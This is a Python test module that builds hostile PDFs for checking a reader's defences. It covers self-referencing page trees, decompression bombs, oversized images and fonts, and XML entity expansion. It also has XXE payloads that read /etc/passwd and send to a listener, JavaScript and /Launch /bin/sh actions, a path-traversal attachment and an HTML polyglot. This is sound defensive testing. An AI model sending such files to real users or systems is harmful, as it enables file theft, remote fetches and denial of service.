"""PDFs that were made to harm who reads them, each kind by what it does.

Most show a page with `FACT` beside the harm, so that a reader which bears the harm finds it.
"""

from __future__ import annotations

import zlib
from collections.abc import Mapping

from tests.security.pdf_writing import BOX, FONT, SHOW, WHOLE, Object, font, packed, page, pdf, picture, stream, tree


def forms(depth: int, each: int) -> list[Object]:
    """Write forms of which each draws the next several times, from the number 6."""
    made: list[Object] = []
    for number in range(depth):
        inner = f"/Resources << /XObject << /X {number + 7} 0 R >> >>" if number + 1 < depth else ""
        draws = "/X Do " * each if number + 1 < depth else "0 0 9 9 re f"
        made.append(stream(draws, f"/Type /XObject /Subtype /Form /BBox {BOX} {inner}"))
    return made


def nested(depth: int) -> bytes:
    """Write a tree in which each node has one kid, down to the page."""
    nodes = [
        f"<< /Type /Pages /Parent {number + 5} 0 R /Kids [{number + 7} 0 R] /Count 1 >>" for number in range(depth)
    ]
    resources = "/Resources << /Font << /F 5 0 R >> >>"
    last = f"<< /Type /Page /Parent {depth + 5} 0 R /MediaBox {BOX} /Contents 4 0 R {resources} >>"
    return tree("<< /Type /Pages /Kids [6 0 R] /Count 1 >>", *nodes, last)


def xmp(text: str) -> bytes:
    """Write a file whose metadata are this XML."""
    return page(SHOW, stream(text, "/Type /Metadata /Subtype /XML"), catalog="/Metadata 6 0 R")


_ENTITY = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'><!ENTITY r SYSTEM '{listener}/xxe'>]>"
_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 20}'>" for n in range(1, 12)
) + "]>"  # fmt: skip
_RDF = (
    "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>"
    "<rdf:Description xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title><rdf:Alt><rdf:li>{value}</rdf:li>"
    "</rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>"
)


def xfa(text: str) -> bytes:
    """Write a form that is kept as this XML."""
    return page(SHOW, stream(text), catalog="/NeedsRendering true /AcroForm << /Fields [] /XFA 6 0 R >>")


def acting(listener: str) -> bytes:
    """Write a file that would run, open, send and fetch, if anybody let it."""
    run = f"/S /JavaScript /JS (app.launchURL('{listener}/js'); this.submitForm('{listener}/send');)"
    acts = (
        "/S /Launch /F (/bin/sh)",
        f"/S /URI /URI ({listener}/uri)",
        f"/S /SubmitForm /F << /FS /URL /F ({listener}/form) >>",
        f"/S /ImportData /F ({listener}/data)",
        f"/S /GoToR /F ({listener}/other.pdf) /D [0 /Fit]",
        f"/S /Rendition /R << /S /MR /C << /S /MCD /D << /FS /URL /F ({listener}/movie) >> >> >>",
    )
    link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << {acts[1]} >> /AA << /E << {run} >> >> >>"
    opened = f"/OpenAction << {run} /Next [{' '.join(f'<< {act} >>' for act in acts)}] >>"
    named = f"/Names << /JavaScript << /Names [(a) << {run} >>] >> >>"
    return page(SHOW, link, entries=f"/Annots [6 0 R] /AA << /O << {run} >> >>", catalog=f"{opened} {named}")


def loop_of_xrefs() -> bytes:
    """Write a file whose table of objects names itself as the one before."""
    whole = page()
    start = whole.rindex(b"xref\n0")
    return whole.replace(b"/Root 1 0 R", f"/Root 1 0 R /Prev {start}".encode())


def updates(count: int) -> bytes:
    """Write a file that was changed many times, each time at its end."""
    content, before = bytearray(page()), None
    before = content.rindex(b"xref\n0 ")
    for number in range(count):
        place = len(content)
        content += f"6 0 obj\n({number})\nendobj\n".encode()
        start = len(content)
        content += (
            f"xref\n6 1\n{place:010} 00000 n \ntrailer\n<< /Size 7 /Root 1 0 R /Prev {before} >>\n"
            f"startxref\n{start}\n%%EOF\n"
        ).encode()
        before = start
    return bytes(content)


def outline(count: int, *, loop: bool) -> bytes:
    """Write a file with an outline: items in items, or one that follows itself."""
    items = (
        ["<< /Title (Loop) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>"]
        if loop
        else [
            f"<< /Title (Deep) /Parent {number + 6} 0 R /Dest [3 0 R /Fit] "
            + (f"/First {number + 8} 0 R /Last {number + 8} 0 R /Count 1 >>" if number + 1 < count else ">>")
            for number in range(count)
        ]
    )
    return page(SHOW, "<< /First 7 0 R /Last 7 0 R /Count 1 >>", *items, catalog="/Outlines 6 0 R")


def notes(count: int, *, loop: bool) -> bytes:
    """Write a file with many comments, or with one that answers itself."""
    refers = "/IRT 6 0 R /Popup 6 0 R /Parent 6 0 R" if loop else ""
    made = [
        f"<< /Type /Annot /Subtype /Text /Rect [9 9 20 20] /T (A) /Contents (Comment {number}) {refers} >>"
        for number in range(count)
    ]
    listed = " ".join(f"{number} 0 R" for number in range(6, 6 + count))
    return page(SHOW, *made, entries=f"/Annots [{listed}]")


_MAPPING = "/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> endcodespacerange\n"
_MANY = _MAPPING + "1 beginbfrange <0000> <FFFF> <0041> endbfrange " * 2000
_LETTERS = "0041" * 20000
_LONG = _MAPPING + f"26 beginbfchar {' '.join(f'<{code:02X}> <{_LETTERS}>' for code in range(97, 123))} endbfchar"


def _trees() -> dict[str, bytes]:
    return {
        "a page tree that is its own kid": tree("<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"),
        "two page trees in each other": tree(
            "<< /Type /Pages /Kids [6 0 R] /Count 2 >>",
            "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>",
        ),
        "a page that is its own parent": tree("<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>"),
        "two thousand million pages counted": tree("<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"),
        "fewer pages than none": tree("<< /Type /Pages /Kids [3 0 R] /Count -7 >>"),
        "one page twenty thousand times": tree(f"<< /Type /Pages /Kids [{'3 0 R ' * 20_000}] /Count 20000 >>"),
        "a page tree five thousand deep": nested(5000),
        "no page at all": tree("<< /Type /Pages /Kids [] /Count 0 >>"),
        "kids that are no pages": tree("<< /Type /Pages /Kids [null (x) 5 0 R 99 0 R 3 0 R] /Count 5 >>"),
    }


def _pages() -> dict[str, bytes]:
    return {
        "a page a million metres wide": page(box="[0 0 3000000000 3000000000]"),
        "a page without room": page(box="[0 0 0 0]"),
        "a page turned inside out": page(box="[595 842 -595 -842]"),
        "a page of no numbers": page(box="[(a) null /x 1e999]"),
        "a page in units of a mile": page(entries="/UserUnit 1e9"),
        "a page turned by seven": page(entries="/Rotate 7"),
    }


def _unfolding(listener: str) -> dict[str, bytes]:
    spaces = b" " * 100_000_000
    external = f"<< /Length 0 /F ({listener}/stream) /FFilter [] >>\nstream\n\nendstream".encode()
    return {
        "content that unfolds": page(packed(SHOW.encode() + spaces)),
        "content that unfolds twice": page(packed(SHOW.encode() + spaces, times=2)),
        "content through fifty filters": page(packed(SHOW, times=50)),
        "runs that unfold": page(stream(b"\x81 " * 400_000, "/Filter /RunLengthDecode")),
        "a predictor of a huge row": page(packed(SHOW, "/DecodeParms << /Predictor 12 /Columns 2147483647 >>")),
        "a stream as long as itself": page(b"<< /Length 4 0 R >>\nstream\n" + SHOW.encode() + b"\nendstream"),
        "a stream of another file": page(external),
    }


def _pictures() -> dict[str, bytes]:
    return {
        "a picture of a hundred thousand by as many": picture(
            "/Width 100000 /Height 100000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode",
            zlib.compress(b"\0" * 50_000_000, 9),
        ),
        "a picture of two thousand million by as many": picture(
            "/Width 2147483647 /Height 2147483647 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
        ),
        "a picture of less than nothing": picture("/Width -5 /Height -5 /BitsPerComponent 8 /ColorSpace /DeviceRGB"),
        "a picture that says it is huge": picture(
            "/Width 65535 /Height 65535 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode",
            b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xff\xd9",
        ),
        "a picture of JPEG 2000 that is none": picture(
            "/Width 9 /Height 9 /Filter /JPXDecode", b"\0\0\0\x0cjP  \r\n" * 99
        ),
        "a picture of JBIG2 that is none": picture(
            "/Width 9 /Height 9 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode",
            b"\x97JB2\r\n\x1a\n" * 99,
        ),
        "a mask that masks itself": picture(
            "/Width 4 /Height 4 /BitsPerComponent 8 /ColorSpace /DeviceRGB /SMask 6 0 R"
        ),
        "a picture in the content": page(
            f"{SHOW} BI /W 60000 /H 60000 /BPC 8 /CS /RGB ID " + "x" * 500 + f" EI {SHOW}"
        ),
    }


def _drawn() -> dict[str, bytes]:
    return {
        "a form that draws itself": page(
            f"{SHOW} /X Do",
            stream(
                "/X Do /X Do", f"/Type /XObject /Subtype /Form /BBox {BOX} /Resources << /XObject << /X 6 0 R >> >>"
            ),
            resources="/XObject << /X 6 0 R >>",
        ),
        "forms that draw each other a thousand million times": page(
            f"{SHOW} /X Do", *forms(10, 10), resources="/XObject << /X 6 0 R >>"
        ),
        "a pattern that is painted with itself": page(
            f"{SHOW} /Pattern cs /P scn 0 0 500 500 re f",
            stream(
                "/Pattern cs /P scn 0 0 9 9 re f",
                "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 "
                "/Resources << /Pattern << /P 6 0 R >> >>",
            ),
            resources="/Pattern << /P 6 0 R >>",
        ),
        "half a million states within states": page("q " * 500_000 + SHOW),
        "a million lines": page(SHOW + " 0 0 m" + " 9 9 l 0 0 l" * 500_000 + " S"),
        "a million operands": page("1 " * 1_000_000 + SHOW),
    }


def _fonts() -> dict[str, bytes]:
    return {
        "letters that draw themselves": font(
            "/Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 122 "
            f"/Widths [{'9 ' * 26}] /CharProcs << /a 7 0 R >> /Encoding << /Differences [97 {'/a ' * 26}] >> "
            "/Resources << /Font << /G 6 0 R >> >>",
            stream("9 0 d0 BT /G 12 Tf (harbour) Tj ET"),
        ),
        "a mapping of all letters two thousand times": font("/Subtype /TrueType /ToUnicode 7 0 R", packed(_MANY)),
        "letters that stand for twenty thousand": font("/Subtype /TrueType /ToUnicode 7 0 R", packed(_LONG)),
        "widths from below zero": font("/Subtype /TrueType /FirstChar -2147483648 /LastChar 2147483647 /Widths [9]"),
        "a font file of garbage": font(
            "/Subtype /TrueType /FontDescriptor << /Type /FontDescriptor /FontName /Odd /Flags 4 /FontFile2 7 0 R >>",
            stream(b"\0\1\0\0" + bytes(range(256)) * 40),
        ),
    }


def _files(listener: str) -> dict[str, bytes]:
    return {
        "a table that comes before itself": loop_of_xrefs(),
        "a thousand updates": updates(1000),
        "a reference to itself": page(entries="/Metadata 6 0 R", catalog="/Lang 6 0 R").replace(
            b"xref\n0", b"6 0 obj 6 0 R endobj\nxref\n0", 1
        ),
        "arrays a hundred thousand deep": page(catalog=f"/Deep {'[' * 100_000}{']' * 100_000}"),
        "dictionaries twenty thousand deep": page(catalog="/Deep " + "<< /D " * 20_000 + "0" + " >>" * 20_000),
        "a name of a megabyte": page(catalog=f"/{'n' * 1_000_000} 1"),
        "a text without an end": page(catalog="/Lang (never " + "(" * 1000),
        "a page of HTML before the file": pdf(
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            f"<< {WHOLE} >>",
            stream(SHOW),
            FONT,
            head=f"<html><script src='{listener}/polyglot'></script><!-- ".encode(),
        ),
    }


def _said(listener: str) -> dict[str, bytes]:
    laugh, entity = _LAUGHS.replace("DOCTYPE x", "DOCTYPE x:xmpmeta"), _ENTITY.format(listener=listener)
    return {
        "an outline that follows itself": outline(1, loop=True),
        "an outline ten thousand deep": outline(10_000, loop=False),
        "labels that list themselves": page(
            SHOW, "<< /Kids [6 0 R] /Nums [0 << /S /r /St 2147483647 >>] >>", catalog="/PageLabels 6 0 R"
        ),
        "page numbers of a million letters": page(catalog="/PageLabels << /Nums [0 << /S /r /St 90000000 >>] >>"),
        "names that list themselves": page(
            SHOW, "<< /Kids [6 0 R 6 0 R] >>", catalog="/Names << /Dests 6 0 R /EmbeddedFiles 6 0 R >>"
        ),
        "a structure that holds itself": page(
            SHOW,
            "<< /Type /StructTreeRoot /K [6 0 R 7 0 R] /ParentTree 6 0 R /Kids [6 0 R] >>",
            "<< /Type /StructElem /S /P /P 7 0 R /K [7 0 R 6 0 R] >>",
            catalog="/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>",
        ),
        "fields that hold themselves": page(
            SHOW,
            "<< /FT /Tx /T (a) /V (b) /Kids [6 0 R] /Parent 6 0 R >>",
            catalog="/AcroForm << /Fields [6 0 R 6 0 R] >>",
        ),
        "a comment that answers itself": notes(1, loop=True),
        "three thousand comments": notes(3000, loop=False),
        "a title of two megabytes": page(trailer=f"/Info << /Title ({'long ' * 400_000}) >>"),
        "metadata with a file of the system": xmp(entity.replace("x [", "x:xmpmeta [") + _RDF.format(value="&e;&r;")),
        "metadata that laugh": xmp(laugh + _RDF.format(value="&a11;")),
        "a form with a file of the system": xfa(f"{entity}<x>&e;&r;</x>"),
        "a form that laughs": xfa(f"{_LAUGHS}<x>&a11;</x>"),
        "a file that would act": acting(listener),
        "an attachment that would lie elsewhere": page(
            SHOW,
            "<< /Type /Filespec /F (../../../evil.pdf) /UF (../../../evil.pdf) /EF << /F 7 0 R >> >>",
            stream("%PDF-1.4", "/Type /EmbeddedFile /Params << /Size 99999999999 >>"),
            catalog="/Names << /EmbeddedFiles << /Names [(x) 6 0 R] >> >>",
        ),
    }


def _locked() -> dict[str, bytes]:
    return {
        "a lock of an unknown kind": page(trailer="/Encrypt << /Filter /Unknown /V 99 /R 99 >> /ID [<00> <00>]"),
        "a lock without a keyhole": page(
            trailer="/Encrypt << /Filter /Standard /V 5 /R 6 /O <00> /U <00> /OE <> /UE <> /P -1 /Length 999999 >>"
        ),
    }


def kinds(listener: str) -> Mapping[str, bytes]:
    """Make one of each kind.

    Args:
        listener: An address that hears what is fetched.
    """
    return {
        **_trees(),
        **_pages(),
        **_unfolding(listener),
        **_pictures(),
        **_drawn(),
        **_fonts(),
        **_files(listener),
        **_said(listener),
        **_locked(),
    }
